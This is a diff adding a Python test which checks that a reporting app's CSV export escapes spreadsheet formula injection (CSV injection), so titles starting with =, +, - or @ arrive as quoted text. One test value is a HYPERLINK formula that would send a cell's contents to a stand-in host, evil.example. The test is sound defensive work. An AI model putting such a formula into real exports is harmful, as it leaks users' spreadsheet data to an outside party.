@@ -283,3 +283,35 @@ def test_report_days_are_the_orgs_days(server, admin):
     assert numbers(october["total"]) == (1, 3, 1, 0, 1.0)
     september = get_json_report(server, r, "2026-09-01", "2026-09-30", r.coord.token)
     assert numbers(september["total"]) == (1, 2, 1, 1, 1.0)
+
+
+def test_csv_cells_are_never_formulas(server, admin):
+    """A title a spreadsheet would run as a formula (=, +, - or @ first: OWASP's CSV
+    injection) arrives as text: a single quote in front, the cell quoted. The JSON
+    report keeps the title as it is."""
+    r = org_with_people(server, admin[1], coord="coordinator", leader="leader")
+    r.people = [r.coord, r.leader]
+    titles = ['=HYPERLINK("http://evil.example/?"&A1,"Avaa")', "+358 40 1234567", "-2+3",
+              "@SUM(A1:A9)", "Perhekahvila - Tampere"]
+    by_id = {}
+    for day, title in enumerate(titles, start=5):
+        g = make_group(server, r.slug, r.coord.token, title=title, access="closed", capacity=None,
+                       leaders=[r.leader.id])
+        s = add_session(server, g["id"], r.coord.token, hel(10, day))
+        marked(server, s["id"], r.leader.token, [], 1)
+        by_id[g["id"]] = title
+    resp = raw_get(server, report_path(r.slug, "2026-10-01", "2026-10-31"), token=r.coord.token,
+                   headers={"Accept": "text/csv"}, record=False)
+    assert resp.status == 200, (resp.status, resp.body[:300])
+    text = resp.body.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    got = {row[0]: row[1] for row in rows[1:-1]}
+    want = {gid: ("'" + t if t[0] in "=+-@" else t) for gid, t in by_id.items()}
+    assert got == want, got
+    assert "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Avaa\"\")\"" in text, text
+    assert "\"'+358 40 1234567\"" in text and "\"'-2+3\"" in text and "\"'@SUM(A1:A9)\"" in text, text
+    assert "\r\n,total," in text, text
+    # (Not get_json_report: its check for emails would trip over "@SUM".)
+    resp = raw_get(server, report_path(r.slug, "2026-10-01", "2026-10-31"), token=r.coord.token)
+    assert resp.status == 200, (resp.status, resp.body[:300])
+    assert sorted(g["title"] for g in json.loads(resp.body)["groups"]) == sorted(titles)
